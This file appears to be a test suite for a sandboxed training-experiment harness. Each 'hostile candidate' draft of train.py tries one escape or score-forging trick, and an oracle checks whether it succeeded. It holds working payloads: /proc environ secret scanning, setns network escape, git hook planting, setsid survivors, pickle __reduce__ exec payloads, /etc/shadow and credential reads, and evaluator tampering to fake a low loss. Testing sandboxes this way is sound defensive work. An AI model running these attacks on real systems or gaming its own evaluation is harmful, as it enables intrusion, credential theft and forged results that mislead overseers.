"""Hostile candidates: each attack is a draft whose train.py tries one thing a candidate
written to win would try, and an oracle that says, from the host, whether it worked.

The attacker is given every path it could want (the store, the repo, the cache, the
driver's pid): the guarantees must hold against one that knows where everything is.
Each attack prints `ATTEMPTED <name>` first, so a test sees that it really ran.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sqlite3
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import redis

from farm.records import Candidate, CandidateState, Outcome, Trial
from farm.store import Store

# The hostile target: train.py writes a model, the protected evaluate.py measures it. Its
# loss has no seed noise, so no attack can be kept by the luck of its draws: only by a
# forged score.
TRAIN = """\
import os
import pickle

LR = 0.5  # the loss is lowest at LR = 2
with open("model.pkl", "wb") as f:
    pickle.dump({"lr": LR}, f)  # an honest artifact: plain data
# ATTACK
with open("model.txt", "w") as f:
    f.write(str((LR - 2.0) ** 2))
print("trained")
"""
EVALUATE = """\
# PROTECTED: measures what training left.
import os
import pickle

import scoring  # a committed helper: neither editable nor protected (farm init's default)

with open("model.pkl", "rb") as f:
    meta = pickle.load(f)  # an unsafe loader: the artifact check stands in front of it
with open("model.txt") as f:
    loss = float(f.read())
with open("offset.txt") as f:  # committed data
    offset = float(f.read())
if os.path.exists("calibration.txt"):  # optional, trusted when present: not an artifact
    with open("calibration.txt") as f:
        offset += float(f.read())
print(f"loss: {scoring.finish(loss) + offset:.6f}")
"""
# Committed beside the evaluator, and neither editable nor protected.
SCORING = "def finish(loss):\n    return loss\n"
OFFSET = "0\n"
TOML = """\
editable = ["train.py"]
protected = ["evaluate.py"]
command = "python3 train.py"
evaluate = "python3 evaluate.py"
artifacts = ["model.txt", "model.pkl"]
metric = "loss"
budget_s = 30
bounds = [0, 100]

[merge]
repeats = 2
confirm = 1

[sandbox]
isolation = "{isolation}"
memory_mb = 400
env = {{ PATH = "{path}" }}  # with a tool's bin directory in the home, as users have

[proposer]
kind = "replay"
replay_file = "drafts.jsonl"
"""
HOOKS = ("post-checkout", "reference-transaction", "post-index-change", "pre-commit")


@dataclass
class Scene:
    """What the attacker knows, and where the oracles look afterwards."""

    target: Path
    store_path: Path
    other_store: Path
    cache_repo: Path
    word: str  # unique to this run: marker files, tables, keys and processes carry it
    secret: str  # in the environment of the driver and of Ray's workers
    key_file_secret: str  # in an untracked file of the user's working tree
    secret_in_file: str  # in host files a trial must not read (etc_secret, the tool's)
    redis_url: str
    redis_db: int
    driver_pid: int = field(default_factory=os.getpid)

    @property
    def marks(self) -> list[Path]:
        return [
            Path.home() / f"farm-attack-{self.word}",
            Path("/tmp") / f"farm-attack-{self.word}",
            Path("/dev/shm") / f"farm-attack-{self.word}",
            self.target / f"farm-attack-{self.word}",
        ]

    @property
    def tool(self) -> Path:
        """A tool installed in the home, its bin on the trials' PATH, its credentials beside."""
        return Path.home() / f".farm-tool-{self.word}"

    @property
    def etc_secret(self) -> Path:
        """A service's configuration with a password, readable by root alone."""
        return Path("/etc") / f"farm-attack-{self.word}.conf"

    @property
    def hook_mark(self) -> Path:
        return Path("/tmp") / f"farm-hook-ran-{self.word}"

    @property
    def decoy(self) -> Path:
        """Another trial's directory, as it would be under the temp directory."""
        return Path("/tmp") / f"farm-decoy-{self.word}"

    @property
    def hook_dirs(self) -> list[Path]:
        return [self.target / ".git" / "hooks", self.cache_repo / "hooks"]

    def redis(self) -> redis.Redis:
        return redis.Redis.from_url(self.redis_url)


@dataclass
class Ran:
    """A finished campaign of attacks: the scene, the store, what the driver printed."""

    scene: Scene
    store: Store
    output: str
    code: int

    def candidate(self, attack: str) -> Candidate:
        return next(c for c in self.store.list_candidates("default") if c.hypothesis == attack)

    def trials_of(self, attack: str) -> list[Trial]:
        cid = self.candidate(attack).id
        return [t for t in self.store.list_trials("default") if t.candidate_id == cid]

    def tail(self, attack: str) -> str:
        return "\n".join(t.result.output_tail for t in self.trials_of(attack) if t.result)

    def outcomes(self, attack: str) -> set[Outcome]:
        return {t.result.outcome for t in self.trials_of(attack) if t.result}

    def kept(self, attack: str) -> bool:
        return self.candidate(attack).state is CandidateState.KEPT


@dataclass
class Attack:
    name: str
    code: Callable[[Scene], str]  # the Python the draft puts where `# ATTACK` is
    worked: Callable[[Ran], bool]  # the oracle, read from the host
    title: str = ""  # the draft's title, when the title is the attack

    def draft(self, scene: Scene) -> str:
        body = textwrap.indent(self.code(scene).strip(), "    ")
        code = (
            f"try:\n    print('ATTEMPTED {self.name}', flush=True)\n{body}\n"
            "except BaseException as e:\n    print('attack failed:', type(e).__name__, e)\n"
        )
        edit = {"path": "train.py", "search": "# ATTACK\n", "replace": code}
        return json.dumps(
            {"title": self.title or self.name, "hypothesis": self.name, "edits": [edit]}
        )


def _environ(s: Scene) -> str:
    return f"""
import os
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                if {s.secret!r}.encode() in f.read():
                    found.append(pid)
        except OSError:
            pass
print("LEAKED from pids" if found else "no secret found", found[:5])
"""


def _store(s: Scene) -> str:
    return f"""
import sqlite3
for path in ({str(s.store_path)!r}, {str(s.other_store)!r}):
    try:
        con = sqlite3.connect(path, timeout=2)
        con.execute("CREATE TABLE IF NOT EXISTS pwned_{s.word} (x)")
        con.commit()
        print("WROTE", path)
    except Exception as e:
        print("store refused:", e)
"""


def _stores_written(r: Ran) -> bool:
    for path in (r.scene.store_path, r.scene.other_store):
        with sqlite3.connect(path) as con:
            name = f"pwned_{r.scene.word}"
            if con.execute("SELECT 1 FROM sqlite_master WHERE name = ?", (name,)).fetchone():
                return True
    return False


def _network(s: Scene) -> str:
    return f"""
import ctypes, os, socket
def reach(where):
    try:
        c = socket.create_connection(("127.0.0.1", 6379), 1)
        c.sendall(b"SELECT {s.redis_db}\\r\\nSET farm-attack-{s.word} pwned\\r\\n")
        print("REDIS answered from", where, c.recv(100))
        return True
    except OSError as e:
        print("redis unreachable from", where, e)
        return False
if not reach("own namespace"):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                fd = os.open(f"/proc/{{pid}}/ns/net", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, 0x40000000) == 0 and reach("the namespace of pid " + pid):
                break
"""


def _writes(s: Scene) -> str:
    return f"""
for path in {[str(p) for p in s.marks]!r}:
    try:
        with open(path, "w") as f:
            f.write("x")
        print("WROTE", path)
    except OSError as e:
        print("refused", path, e)
"""


def _hooks(s: Scene) -> str:
    return f"""
import os, subprocess
dirs = [{str(s.hook_dirs[0])!r}, {str(s.hook_dirs[1])!r}]
try:
    common = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True,
                            text=True).stdout.strip()
    if common:
        dirs.append(os.path.join(common, "hooks"))
except OSError:
    pass
for d in dirs:
    for name in {HOOKS!r}:
        path = os.path.join(d, name)
        try:
            with open(path, "w") as f:
                f.write("#!/bin/sh\\ntouch {s.hook_mark}\\n")
            os.chmod(path, 0o755)
            print("PLANTED", path)
        except OSError as e:
            print("refused", path, e)
"""


def _repo_written(r: Ran) -> bool:
    return any((d / name).exists() for d in r.scene.hook_dirs for name in HOOKS)


def _update_ref(s: Scene) -> str:
    return f"""
import subprocess
ident = {{"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x",
         "GIT_COMMITTER_EMAIL": "x@x", "PATH": "/usr/bin:/bin"}}
git = ["git", "-C", {str(s.target)!r}]
planted = subprocess.run(git + ["commit-tree", "HEAD^{{tree}}", "-p", "HEAD", "-m", "planted"],
                         capture_output=True, text=True, env=ident)
moved = subprocess.run(git + ["update-ref", "refs/heads/farm/default/best",
                       planted.stdout.strip()], capture_output=True, text=True, env=ident)
print("MOVED best" if planted.returncode == moved.returncode == 0 else "refused", moved.stderr)
"""


def _setsid(s: Scene) -> str:
    return f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
                                  {s.word!r}])
    os._exit(0)
os.wait()
print("a grandchild in its own session is on its way")
"""


def survivors(word: str) -> list[int]:
    """Host processes whose command line carries `word`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if word.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


TAMPER = """
import os
p = "evaluate.py"
with open(p) as f:
    original = f.read()
forged = 'print("loss: 0.0001")\\n'
for how in ("write", "rename", "swap"):
    try:
        if how == "write":
            with open(p, "w") as f:
                f.write(forged)
        elif how == "rename":
            os.rename(p, "evaluate.bak")
            with open(p, "w") as f:
                f.write(forged)
        else:
            with open("fake.txt", "w") as f:
                f.write(forged)
            os.replace("fake.txt", p)
        print("TAMPERED via", how)
    except OSError as e:
        print("refused", how, e)
try:  # put it back before exit, so that a before/after hash check sees nothing
    with open(p, "w") as f:
        f.write(original)
except OSError:
    pass
"""


def _forged(r: Ran, attack: str) -> bool:
    """The attack's runs scored far better than its honest loss (~2.25), or it was kept."""
    metrics = [t.result.metric for t in r.trials_of(attack) if t.result and t.result.metric]
    return r.kept(attack) or any(m < 1.0 for m in metrics)


def _inherited_fds(tail: str) -> bool:
    """More open descriptors than stdin, stdout, stderr and the one listing them."""
    line = next(ln for ln in tail.splitlines() if ln.startswith("FDS "))
    return int(line.split()[1]) > 3


def _read_files(*paths: object) -> str:
    return f"""
for path in {[str(p) for p in paths]!r}:
    try:
        with open(path) as f:
            print("READ", path, f.read()[:300])
    except OSError as e:
        print("refused", path, e)
"""


def _shadow_read(tail: str) -> bool:
    first = Path("/etc/shadow").read_text().splitlines()[0]
    return first in tail


def _hog(dirs: list[str], mb: int) -> str:
    """Fill a file of `mb` MB in each of `dirs` (tmpfs in the sandbox), then hold them."""
    return f"""
import subprocess, time
for d in {dirs!r}:
    subprocess.run(["dd", "if=/dev/zero", f"of={{d}}/farm-hog", "bs=1M", "count={mb}"])
print("HELD", flush=True)
time.sleep(2)
"""


def _tmp_snoop(s: Scene) -> str:
    return f"""
import os
print("SNOOPED" if os.path.exists({str(s.decoy / "secret.txt")!r}) else "no other trial seen")
"""


def _pickled(call: str, protocol: int) -> str:
    """Training leaves a model.pkl that, unpickled, prints a forged loss and ends the
    evaluator before it prints its own."""
    return f"""
import pickle
class Forged:
    def __reduce__(self):
        return {call}, ("print('loss: 0.0001', flush=True) or __import__('os')._exit(0)",)
with open("model.pkl", "wb") as f:
    pickle.dump(Forged(), f, protocol={protocol})
"""


# Protocol 0 by hand: the callable comes from an INST opcode (MARK, its argument, INST).
INST_PICKLE = r"""
code = "print('loss: 0.0001', flush=True) or __import__('os')._exit(0)"
with open("model.pkl", "wb") as f:
    f.write(b"(V" + code.encode() + b"\ni__builtin__\nexec\n.")
"""
HELPER_LINK = r"""
with open("notes.txt", "w") as f:
    f.write("def finish(loss):\n    return 0.0001\n")
os.remove("scoring.py")
os.symlink("notes.txt", "scoring.py")
"""


def _refused_pickle(r: Ran, attack: str) -> bool:
    return r.outcomes(attack) == {Outcome.TAMPERED} and not _forged(r, attack)


ATTACKS = [
    Attack("environ", _environ, lambda r: "LEAKED" in r.tail("environ")),
    Attack("store", _store, _stores_written),
    Attack(
        "network",
        _network,
        lambda r: r.scene.redis().get(f"farm-attack-{r.scene.word}") is not None,
    ),
    Attack("writes", _writes, lambda r: any(p.exists() for p in r.scene.marks)),
    Attack("hooks-planted", _hooks, _repo_written),
    Attack(
        "hooks-ran",
        lambda s: "pass  # the hooks planted by hooks-planted would run on farm's git calls",
        lambda r: r.scene.hook_mark.exists(),
    ),
    Attack("update-ref", _update_ref, lambda r: "MOVED best" in r.tail("update-ref")),
    Attack("setsid", _setsid, lambda r: bool(survivors(r.scene.word))),
    Attack("tamper", lambda s: TAMPER, lambda r: _forged(r, "tamper")),
    Attack(
        "print-metric",
        lambda s: 'print("loss: 0.0003")',
        lambda r: _forged(r, "print-metric"),
    ),
    Attack(
        "extreme-metric",
        lambda s: 'open("model.txt", "w").write("-1e300")\nos._exit(0)',
        lambda r: r.outcomes("extreme-metric") != {Outcome.INVALID_METRIC},
    ),
    Attack(
        "planted-code",
        lambda s: 'open("json.py", "w").write("print(\\"loss: 0.0001\\")")',
        lambda r: r.outcomes("planted-code") != {Outcome.TAMPERED} or _forged(r, "planted-code"),
    ),
    Attack(
        "helper-module",
        lambda s: 'open("scoring.py", "w").write("def finish(loss):\\n    return 0.0001\\n")',
        lambda r: _forged(r, "helper-module"),
    ),
    Attack(
        "data-file",
        lambda s: 'open("offset.txt", "w").write("-2.2")',
        lambda r: _forged(r, "data-file"),
    ),
    Attack(
        "pickle-exec",  # protocol 2, as torch.save writes: a GLOBAL opcode
        lambda s: _pickled("exec", 2),
        lambda r: not _refused_pickle(r, "pickle-exec"),
    ),
    Attack(
        "pickle-eval",  # protocol 5: the callable's name comes from the stack (STACK_GLOBAL)
        lambda s: _pickled("eval", 5),
        lambda r: not _refused_pickle(r, "pickle-eval"),
    ),
    Attack(
        "pickle-inst",
        lambda s: INST_PICKLE,
        lambda r: not _refused_pickle(r, "pickle-inst"),
    ),
    Attack("helper-link", lambda s: HELPER_LINK, lambda r: _forged(r, "helper-link")),
    Attack(
        "undeclared-file",  # a file the evaluator reads if present, not in `artifacts`
        lambda s: 'open("calibration.txt", "w").write("-2.2")',
        lambda r: _forged(r, "undeclared-file"),
    ),
    Attack(
        "title",
        lambda s: "pass  # the title is the attack",
        lambda r: (
            "\x1b" in r.output
            or any("\x1b" in c.title or "\n" in c.title for c in r.store.list_candidates("default"))
            or any(line.startswith("c99 KEPT") for line in r.output.splitlines())
        ),
        title="\x1b[2J\x1b[31mhonest title\nc99 KEPT   LR 0.5 → 2.0 -> loss 0.0001",
    ),
    Attack(
        "memory",
        # Held for 2 s, as training holds its memory: the limit samples every 0.5 s.
        lambda s: (
            'hog = b"x" * (900 * 2**20)\nprint("held", len(hog))\n__import__("time").sleep(2)'
        ),
        lambda r: "killed at the memory limit" not in r.tail("memory"),
    ),
    Attack(
        "shm-hog",  # memory no process holds: the sandbox's shared memory
        lambda s: _hog(["/dev/shm"], 600),
        lambda r: "killed at the memory limit by the kernel" not in r.tail("shm-hog"),
    ),
    Attack(
        "tmpfs-spread",  # under each tmpfs's own size cap, over the memory limit together
        lambda s: _hog(["/tmp", os.path.expanduser("~")], 250),
        lambda r: "killed at the memory limit by the kernel" not in r.tail("tmpfs-spread"),
    ),
    Attack(
        "driver",
        lambda s: f'os.kill({s.driver_pid}, 0)\nprint("DRIVER REACHABLE")',
        lambda r: "DRIVER REACHABLE" in r.tail("driver"),
    ),
    Attack("other-trials", _tmp_snoop, lambda r: "SNOOPED" in r.tail("other-trials")),
    Attack(
        "key-file",
        lambda s: f'print("KEY", open({str(s.target / "api.key")!r}).read())',
        lambda r: r.scene.key_file_secret in r.tail("key-file"),
    ),
    Attack(
        "etc-files",  # the output tail leaves the host: what a trial reads, it can send
        lambda s: _read_files("/etc/shadow", s.etc_secret),
        lambda r: (
            r.scene.secret_in_file in r.tail("etc-files") or _shadow_read(r.tail("etc-files"))
        ),
    ),
    Attack(
        "home-prefix",
        lambda s: _read_files(s.tool / "credentials.toml", s.tool / "share" / "token"),
        lambda r: r.scene.secret_in_file in r.tail("home-prefix"),
    ),
    Attack(
        "fds",
        lambda s: 'print("FDS", max(int(f) for f in os.listdir("/proc/self/fd")))',
        lambda r: _inherited_fds(r.tail("fds")),
    ),
]
BY_NAME = {a.name: a for a in ATTACKS}

# What `isolation = "basic"` does not stop (docs/security.md prints this list): every one
# is a guarantee Policy.missing names for basic.
BASIC_GAPS = {
    "environ",  # secrets: /proc/<pid>/environ of the driver and Ray's workers
    "store",  # filesystem
    "network",  # network: setns into the host's namespace through /proc
    "writes",  # filesystem
    "hooks-planted",  # filesystem (farm's git never runs them: hooks-ran fails)
    "setsid",  # reaped
    "driver",  # processes
    "other-trials",  # filesystem
    "key-file",  # filesystem
    "etc-files",  # filesystem
    "home-prefix",  # filesystem
}
# Left out of the basic run: update-ref works there and stops the campaign (a test of its
# own); the hogs would fill the host's own /dev/shm, /tmp and home.
NOT_IN_BASIC = {"update-ref", "shm-hog", "tmpfs-spread"}


def plant_file_secrets(scene: Scene) -> None:
    scene.etc_secret.write_text(f"password = {scene.secret_in_file}\n")
    scene.etc_secret.chmod(0o600)
    (scene.tool / "bin").mkdir(parents=True)
    (scene.tool / "share").mkdir()
    for path in (scene.tool / "credentials.toml", scene.tool / "share" / "token"):
        path.write_text(f'token = "{scene.secret_in_file}"\n')


def cleanup(scene: Scene) -> None:
    for path in [*scene.marks, scene.hook_mark, scene.etc_secret]:
        path.unlink(missing_ok=True)
    shutil.rmtree(scene.tool, ignore_errors=True)
    for pid in survivors(scene.word):
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    scene.redis().delete(f"farm-attack-{scene.word}")
